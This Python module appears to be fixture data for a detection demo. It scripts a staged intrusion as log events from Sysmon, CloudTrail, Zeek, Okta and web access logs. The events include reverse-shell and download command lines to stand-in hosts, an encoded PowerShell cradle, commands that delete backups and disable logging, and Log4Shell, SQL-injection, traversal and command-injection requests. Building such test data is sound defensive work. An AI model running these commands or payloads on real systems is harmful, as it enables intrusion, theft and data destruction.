"""What the intruder did, by source: each event with the second of the day at which it happened.

`make_demo_events.py` puts them among the noise. The story: a macro on Eve's machine brings in a
downloader (08:40), credentials are taken (09:30), a web server and the cloud account follow
(11:00), data leaves (14:00), backups are destroyed (16:00).
"""

from typing import Any

Event = dict[str, Any]

OFFICE = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SYSTEM32 = "C:\\Windows\\System32\\"
TEMP = "C:\\Users\\eve\\AppData\\Local\\Temp\\"
RUN_KEY = "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
EVE = {
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Provider_Name": "Microsoft-Windows-Sysmon",
    "Computer": "WS-EVE.example.com",
    "User": "EXAMPLE\\eve",
}
DROPPED = "/tmp/.font-cache/kworkerd"  # noqa: S108 - that is where intruders put things
CRADLE = (
    "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBs"
    "AG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADkAMwAuADEAOAA0AC4AMgAxADYALgAzADQALwBhACcAKQA="
)


def start(at: int, image: str, command: str, parent: str, **more: str) -> Event:
    """Return the start of a process on Eve's machine."""
    return {
        "at": at,
        "EventID": 1,
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        **EVE,
        **more,
    }


WINDOWS: list[Event] = [
    start(
        9600,
        SYSTEM32 + "cmd.exe",
        "cmd /c start /min powershell",
        OFFICE,
        OriginalFileName="Cmd.Exe",
    ),
    start(
        9604,
        POWERSHELL,
        f"powershell -nop -w hidden -enc {CRADLE}",
        SYSTEM32 + "cmd.exe",
        OriginalFileName="PowerShell.EXE",
    ),
    start(9660, TEMP + "invoice.exe", "invoice.exe", OFFICE, OriginalFileName="setup.exe"),
    {
        "at": 9690,
        "EventID": 22,
        "Image": TEMP + "invoice.exe",
        "QueryName": "inv77.duckdns.org",
        "QueryStatus": "0",
        **EVE,
    },
    {
        "at": 9800,
        "EventID": 13,
        "EventType": "SetValue",
        "Image": TEMP + "invoice.exe",
        **EVE,
        "TargetObject": r"HKU\S-1-5-21-7-1104" + RUN_KEY + "OneDriveSync",
        "Details": r"C:\Users\eve\AppData\Roaming\sync\odsync.exe",
    },
    start(
        9900,
        r"C:\Users\Public\svchost.exe",
        "svchost.exe -k",
        TEMP + "invoice.exe",
        OriginalFileName="beacon.exe",
    ),
    start(
        10200,
        r"C:\Users\Public\cu.exe",
        "cu -urlcache -f http://93.184.216.34/t.bin t.bin",
        r"C:\Users\Public\svchost.exe",
        OriginalFileName="CertUtil.exe",
    ),
    {
        "at": 12600,
        "EventID": 10,
        "SourceImage": r"C:\Users\Public\svchost.exe",
        "TargetImage": SYSTEM32 + "lsass.exe",
        "GrantedAccess": "0x1010",
        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(000001F2)",
        **EVE,
    },
    {
        "at": 12660,
        "EventID": 10,
        "SourceImage": SYSTEM32 + "rundll32.exe",
        "TargetImage": SYSTEM32 + "lsass.exe",
        "GrantedAccess": "0x1fffff",
        "CallTrace": r"C:\Windows\System32\dbgcore.DLL+6cde",
        **EVE,
    },
    {
        "at": 12900,
        "EventID": 8,
        "SourceImage": r"C:\Users\Public\svchost.exe",
        "TargetImage": r"C:\Windows\explorer.exe",
        "StartModule": "-",
        "StartFunction": "-",
        "NewThreadId": "7720",
        **EVE,
    },
    {
        "at": 15300,
        "EventID": 4624,
        "Channel": "Security",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "Computer": "SRV-FILES.example.com",
        "LogonType": 10,
        "IpAddress": "93.184.216.34",
        "TargetUserName": "hugo",
        "TargetUserSid": "S-1-5-21-7-1108",
    },
    {
        "at": 15420,
        "EventID": 4688,
        "Channel": "Security",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "Computer": "SRV-FILES.example.com",
        "NewProcessName": r"C:\PerfLogs\csrss.exe",
        "ParentProcessName": SYSTEM32 + "cmd.exe",
        "CommandLine": "csrss",
    },
    start(
        36000,
        SYSTEM32 + "vssadmin.exe",
        "vssadmin delete shadows /all /quiet",
        SYSTEM32 + "cmd.exe",
        OriginalFileName="VSSADMIN.EXE",
    ),
    start(
        36010,
        SYSTEM32 + "wbadmin.exe",
        "wbadmin DELETE SYSTEMSTATEBACKUP \N{EN DASH}quiet",
        SYSTEM32 + "cmd.exe",
        OriginalFileName="WBADMIN.EXE",
    ),
    start(
        36020,
        SYSTEM32 + "bcdedit.exe",
        "bcdedit /set {default} recoveryenabled No",
        SYSTEM32 + "cmd.exe",
        OriginalFileName="bcdedit.exe",
    ),
    start(
        36600,
        r"C:\Users\eve\Downloads\AnyDesk.exe",
        "AnyDesk.exe --start",
        r"C:\Windows\explorer.exe",
        OriginalFileName="AnyDesk.exe",
        UtcTime="2026-08-20 21:02:11.514",
    ),
]

SYSTEM: list[Event] = [
    {
        "at": 15600,
        "EventID": 7045,
        "ServiceName": "BTOBTOiq",
        "ImagePath": r"%systemroot%\aVQbEKsq.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    },
    {
        "at": 15660,
        "EventID": 7045,
        "ServiceName": "upd",
        "ImagePath": r"%COMSPEC% /Q /c echo cd > \\127.0.0.1\C$\__output",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    },
]


def linux(at: int, number: int, **fields: Any) -> Event:  # noqa: ANN401 - fields of events are anything
    """Return an event of the first web server."""
    return {"at": at, "EventID": number, "Computer": "web-1", "User": "www-data", **fields}


LINUX: list[Event] = [
    linux(
        18000,
        1,
        Image="/usr/bin/dash",
        CommandLine="sh -c id;uname -a",
        ParentImage="/usr/sbin/php-fpm8.2",
    ),
    linux(18010, 1, Image="/usr/bin/whoami", CommandLine="whoami", ParentImage="/usr/sbin/nginx"),
    linux(
        18300,
        3,
        Image="/usr/bin/bash",
        CommandLine="bash -i >& /dev/tcp/93.184.216.34/443 0>&1",
        ParentImage="/usr/bin/dash",
        Protocol="tcp",
        DestinationIp="93.184.216.34",
        DestinationPort=443,
    ),
    linux(
        18400,
        3,
        Image="/bin/bash",
        CommandLine="bash -c 'nc -e /bin/bash 10.1.7.99 4444'",
        ParentImage="/usr/bin/dash",
        Protocol="tcp",
        DestinationIp="10.1.7.99",
        DestinationPort=4444,
    ),
    linux(
        18500,
        3,
        Image="/bin/bash",
        CommandLine='bash -c "/opt/check-repo" > /var/log/check-repo.log 2>&1',
        ParentImage="/usr/sbin/cron",
        Protocol="tcp",
        DestinationIp="93.184.216.34",
        DestinationPort=443,
        User="root",
    ),
    linux(
        18520,
        3,
        Image="/bin/bash",
        CommandLine="sh -c ship-logs",
        ParentImage="/usr/sbin/logrotate",
        Protocol="tcp",
        DestinationIp="10.1.0.5",
        DestinationPort=514,
        User="root",
    ),
    linux(
        18600,
        1,
        Image=DROPPED,
        CommandLine="./kworkerd -B",
        ParentImage="/usr/bin/bash",
    ),
    linux(
        18660,
        3,
        Image=DROPPED,
        Protocol="tcp",
        DestinationIp="93.184.216.34",
        DestinationPort=14444,
        DestinationHostname="eu.pool.example.com",
    ),
    linux(18700, 11, Image="/usr/bin/bash", TargetFilename="/etc/cron.d/0upd", User="root"),
    linux(
        18710, 11, Image="/usr/bin/bash", TargetFilename="/root/.ssh/authorized_keys", User="root"
    ),
    linux(
        18720,
        11,
        Image=DROPPED,
        TargetFilename="/etc/ld.so.preload",
        User="root",
    ),
]

ROOT = {"type": "Root", "accountId": "111122223333", "arn": "arn:aws:iam::111122223333:root"}
STOLEN = {
    "type": "AssumedRole",
    "accountId": "111122223333",
    "arn": "arn:aws:sts::111122223333:assumed-role/web/i-0abc1234def567890",
}


def call(at: int, service: str, name: str, who: Event, **fields: Any) -> Event:  # noqa: ANN401 - as above
    """Return a call from the intruder's address."""
    return {
        "at": at,
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "eventType": "AwsApiCall",
        "userIdentity": who,
        "sourceIPAddress": "93.184.216.34",
        "userAgent": "aws-cli/2.17",
        **fields,
    }


CLOUDTRAIL: list[Event] = [
    call(19000, "sts", "GetCallerIdentity", STOLEN),
    call(19030, "s3", "ListBuckets", STOLEN),
    call(
        19400,
        "signin",
        "ConsoleLogin",
        ROOT,
        responseElements={"ConsoleLogin": "Success"},
        eventType="AwsConsoleSignIn",
    ),
    call(19500, "cloudtrail", "StopLogging", ROOT, requestParameters={"name": "main"}),
    call(
        19520,
        "guardduty",
        "UpdateDetector",
        ROOT,
        requestParameters={"detectorId": "12a", "enable": False},
    ),
    call(
        19600,
        "ec2",
        "AuthorizeSecurityGroupIngress",
        ROOT,
        requestParameters={
            "groupId": "sg-0a1",
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 3389,
                        "toPort": 3389,
                        "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                    }
                ]
            },
        },
    ),
    call(
        19610,
        "cloudtrail",
        "DeleteTrail",
        {"type": "IAMUser", "userName": "ben"},
        errorCode="AccessDenied",
    ),
]

ZEEK_CONN: list[Event] = [
    {
        "at": 28800,
        "id.orig_h": "10.1.4.22",
        "id.orig_p": 51822,
        "id.resp_h": "93.184.216.34",
        "id.resp_p": 443,
        "conn_state": "SF",
        "orig_bytes": 734003200,
        "resp_bytes": 183422,
    },
    {
        "at": 30000,
        "id.orig_h": "10.20.0.3",
        "id.orig_p": 40112,
        "id.resp_h": "93.184.216.34",
        "id.resp_p": 443,
        "conn_state": "SF",
        "orig_bytes": 834003200,
        "resp_bytes": 93422,
    },
]

ZEEK_DNS: list[Event] = [
    {
        "at": 27000 + 4 * number,
        "id.orig_h": "10.1.4.22",
        "id.resp_h": "10.1.0.1",
        "id.resp_p": 53,
        "rejected": False,
        "qtype_name": "TXT",
        "rcode_name": "NOERROR",
        "query": f"mfzwizltoq3dimrqha4tomzugi2tgnbvgyydcnjuhazt{number}mbzha.t.example.net",
    }
    for number in range(6)
]

PROXY: list[Event] = [
    {
        "at": 9606,
        "c-ip": "10.1.4.22",
        "cs-method": "GET",
        "c-uri": "http://93.184.216.34/invoice.exe",
        "cs-host": "93.184.216.34",
        "c-uri-extension": "exe",
        "sc-status": 200,
        "c-useragent": "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1",
    },
    {
        "at": 9700,
        "c-ip": "10.1.4.22",
        "cs-method": "GET",
        "c-uri": "http://10.1.0.7/update.exe",
        "cs-host": "10.1.0.7",
        "c-uri-extension": "exe",
        "sc-status": 200,
        "c-useragent": "Updater",
    },
]

ENTRA: list[Event] = [
    {
        "at": 14000,
        "operationName": "Sign-in activity",
        "resultType": "0",
        "properties": {
            "userPrincipalName": "hugo@example.com",
            "clientAppUsed": "IMAP4",
            "ipAddress": "93.184.216.34",
        },
    },
    {
        "at": 14300,
        "category": "AuditLogs",
        "operationName": "Consent to application",
        "properties": {
            "activityDisplayName": "Consent to application",
            "result": "success",
            "targetResources": [
                {
                    "displayName": "Mail Viewer",
                    "modifiedProperties": [
                        {
                            "displayName": "ConsentAction.Permissions",
                            "newValue": "[Scope: User.Read Mail.Read offline_access]",
                        }
                    ],
                }
            ],
        },
    },
]

OKTA: list[Event] = [
    {
        "at": 14500,
        "eventType": "user.mfa.factor.reset_all",
        "actor": {"id": "00u1", "type": "User", "alternateId": "helpdesk@example.com"},
        "target": [{"id": "00u7", "type": "User", "alternateId": "hugo@example.com"}],
        "outcome": {"result": "SUCCESS"},
    },
    {
        "at": 14600,
        "eventType": "user.mfa.factor.deactivate",
        "actor": {"id": "00u3", "type": "User", "alternateId": "clara@example.com"},
        "target": [{"id": "00u3", "type": "User", "alternateId": "clara@example.com"}],
        "outcome": {"result": "SUCCESS"},
    },
]


def record(call: int, tail: str) -> str:
    """Return a record of a system call by root, on a 64-bit machine."""
    head = f"type=SYSCALL msg=@STAMP@: arch=c000003e syscall={call} success=yes exit=0 a0=3 items=1"
    return f"{head} ppid=1 pid=6621 auid=4294967295 uid=0 gid=0 tty=(none) ses=9 {tail}"


AUDIT: dict[int, list[str]] = {
    97: [record(313, 'comm="ins" exe="/tmp/.font-cache/ins" key="modules"')],
    101: [
        record(257, f'comm="kworkerd" exe="{DROPPED}" key="secrets"'),
        'type=PATH msg=@STAMP@: item=0 name="/etc/shadow" inode=12 mode=0100640 nametype=NORMAL',
    ],
}

ACCESS: dict[int, tuple[str, int, str]] = {
    118: ("GET /cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", 404, "curl/8.5.0"),
    119: ("GET /item?id=1+UNION+SELECT+user,password+FROM+users HTTP/1.1", 200, "curl/8.5.0"),
    120: ("GET / HTTP/1.1", 200, "${jndi:ldap://93.184.216.34/a}"),
    121: ("GET /ping?host=1.1.1.1;cat%20/etc/passwd HTTP/1.1", 200, "curl/8.5.0"),
}
